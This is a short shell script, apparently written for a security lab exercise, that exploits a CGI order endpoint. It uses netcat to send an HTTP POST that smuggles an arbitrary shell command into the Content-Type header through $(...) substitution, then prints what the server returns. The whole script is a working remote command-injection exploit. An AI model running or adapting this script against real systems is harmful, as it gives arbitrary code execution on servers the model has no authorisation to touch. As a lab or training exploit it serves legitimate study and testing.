# Somebody who has read the bulletin of forms 1.4: sends COMMAND as the type of a form.
# usage: sh attack.sh COMMAND
exec docker run --rm --network "$LAB_NET" -e "SITE=$LAB_COUNTER" -e "COMMAND=$1" "$LAB_BASE" sh -c '
  printf "POST /cgi-bin/order HTTP/1.0\r\nContent-Type: \$(%s)\r\nContent-Length: 0\r\n\r\n" "$COMMAND" |
    timeout 8 nc "$SITE" 8080 | sed "1,/^.\$/d"'
